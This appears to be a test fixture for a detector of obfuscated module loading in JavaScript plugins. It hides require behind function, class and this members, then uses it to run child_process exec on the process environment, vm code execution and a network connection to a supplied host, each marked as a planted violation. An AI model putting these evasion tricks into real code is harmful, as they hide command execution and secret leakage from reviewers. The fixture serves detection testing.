// @desc: require stored as an own member of a function or a class (directly, or on `this` in a static method), then called through that member to load a module (SLO-02).
// @obfuscation: require stored on a function, require stored on a class, require stored on this in a static method, bracket call, decoy member
function Plugin() {}
Plugin.load = require;
Plugin.log = console.log;
class Bridge {
  static setup() {
    this.get = require;
  }
}
const hook = () => {};
hook.fetch = require;

module.exports = function (pi) {
  Plugin.log('start');
  Plugin.load('child_' + 'process').exec(JSON.stringify(process.env)); // PLANT: child-process exfiltration-chain process-env
  Bridge.setup();
  Bridge.get('v' + 'm').runInThisContext(pi.code); // PLANT: forbidden-builtin
  hook['fetch']('n' + 'et').connect(9, pi.host); // PLANT: forbidden-builtin
};
